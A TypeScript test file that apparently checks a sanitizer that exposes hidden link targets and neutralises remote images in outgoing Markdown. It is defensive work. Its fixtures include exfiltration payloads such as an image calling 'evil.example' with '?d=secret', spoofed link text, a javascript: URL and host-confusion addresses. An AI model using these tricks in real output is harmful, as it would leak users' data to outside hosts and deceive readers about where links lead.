import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { isOwn, visibleLink, visibleMarkdown, withoutPictures } from './outgoing-text.ts';

const own = ['acme.example'];
const out = (text: string): string => visibleMarkdown(text, own).text;

const cases: [what: string, text: string, expected: string][] = [
  [
    'a picture from elsewhere',
    '![x](https://evil.example/p?d=secret)',
    'picture "x" at `https://evil.example/p?d=secret`',
  ],
  ['words over an address', '[here](https://evil.example/?d=1)', 'here (https://evil.example/?d=1)'],
  [
    'an address over another',
    '[https://acme.example/](https://evil.example/)',
    'https://acme.example/ (https://evil.example/)',
  ],
  ['a host over another', '[www.acme.example](https://evil.example/)', 'www.acme.example (https://evil.example/)'],
  [
    'an own address over another own',
    '[b.acme.example](https://a.acme.example/)',
    'b.acme.example (https://a.acme.example/)',
  ],
  ['an address in angle brackets with a title', '[x](<https://evil.example/> "safe")', 'x (https://evil.example/)'],
  ['an address on the next line', '[x](\n https://evil.example/)', 'x (https://evil.example/)'],
  [
    'a picture in a link',
    '[![a](https://evil.example/p)](https://evil.example/)',
    'picture "a" at `https://evil.example/p` (https://evil.example/)',
  ],
  ['an address given elsewhere', '[x][1]\n\n[1]: https://evil.example/', '[x][1]\n\n[1]\\: https://evil.example/'],
  ['a picture whose address is given elsewhere', '![x][1]', '\\![x][1]'],
  ['an address without its scheme', '[x](//evil.example/)', 'x (//evil.example/)'],
  ['an own name as a user name', '[x](https://acme.example@evil.example/)', 'x (https://acme.example@evil.example/)'],
  ['an address that becomes another', '[x](https:\\\\evil.example)', 'x (https://evil.example/)'],
  ['an address that runs', '[x](javascript:alert%281%29)', 'x (javascript:alert%281%29)'],
  ['a picture in HTML', 'a <img src="https://evil.example/p">', 'a &lt;img src="https://evil.example/p">'],
  [
    'a block of HTML',
    '<foo>\n```\n\n![x](https://evil.example/)',
    '&lt;foo>\n```\n\npicture "x" at `https://evil.example/`',
  ],
  [
    'code in a comment',
    '<!--\n```\n-->\n![x](https://evil.example/)\n```\n',
    '&lt;!--\n```\n-->\n![x](https://evil.example/)\n```\n',
  ],
  [
    'code in a list',
    '- ```\n![x](https://evil.example/)\n```\n',
    '- ```\npicture "x" at `https://evil.example/`\n```\n',
  ],
  ['half of a link', '[x](https://evil.example/ a b)', '[x] (https://evil.example/ a b)'],
];
for (const [what, text, expected] of cases)
  test(`${what} goes out with its address in sight`, () => {
    assert.equal(out(text), expected);
  });

for (const text of [
  'plain words, 3 < 4, f(x)[0] and `Array<string>`',
  '<https://docs.example/> and https://docs.example/',
  '[https://docs.example/a](https://docs.example/a)',
  '[docs.example/a](https://docs.example/a)',
  '[the plan](https://wiki.acme.example/plan)',
  '![chart](https://img.acme.example/c.png)',
  '[below](#part) and [beside](./other.md)',
  '```html\n<img src="https://evil.example/">\n[x](https://evil.example/)\n```',
])
  test(`what shows where it leads stays as it is: ${text.slice(0, 40).replace('\n', ' ')}`, () => {
    assert.deepEqual(visibleMarkdown(text, own), { text, madeVisible: 0 });
  });

test('what is the own host is not guessed from how it looks', () => {
  assert.ok(isOwn('https://wiki.acme.example/x?a=1', own));
  for (const not of [
    'http://acme.example/',
    'https://notacme.example/',
    'https://acme.example.evil.example/',
    'https://a@acme.example/',
    'https:/\\acme.example',
    '//acme.example/',
    'https://acme.example&#47;@evil.example/',
  ])
    assert.ok(!isOwn(not, own), not);
  assert.deepEqual(visibleLink('https://docs.example', 'https://docs.example/', []), { words: 'https://docs.example' });
});

test('no link and no picture of what goes out leads elsewhere unseen, however the signs are mixed', () => {
  const bits = fc.constantFrom(
    '[',
    ']',
    '(',
    ')',
    '![',
    '](',
    'a',
    '\n',
    '\\',
    '<',
    '>',
    '"',
    ' ',
    ':',
    '[1]: ',
    'https://evil.example/p',
    '//evil.example',
    '`',
    'https://acme.example/',
    '\u{f0001}',
    '\u{f0000}',
  );
  fc.assert(
    fc.property(fc.array(bits, { maxLength: 24 }), (parts) => {
      const text = out(parts.join(''));
      for (const m of text.matchAll(/\]\(\s*<?([^)>\s]*)/g))
        assert.ok(!(m[1] ?? '').includes('evil'), JSON.stringify([parts.join(''), text]));
      assert.ok(!text.includes(']:'), JSON.stringify([parts.join(''), text]));
    }),
    { numRuns: 2000 },
  );
});

test('what is read has no picture that a client would fetch', () => {
  assert.equal(
    withoutPictures('![a](https://evil.example/p) <IMG src=x> ![b][c] [d](https://docs.example)'),
    '! [a](https://evil.example/p) < IMG src=x> ! [b][c] [d](https://docs.example)',
  );
});

test('a text that is made to take long goes out like any other', () => {
  const n = 20_000;
  for (const text of [
    '['.repeat(n) + '](https://evil.example/)'.repeat(n),
    '!['.repeat(n),
    '[a]('.repeat(n),
    '<a '.repeat(n),
    '[a](' + '('.repeat(n),
  ])
    assert.doesNotMatch(out(text), /\]\(/);
});
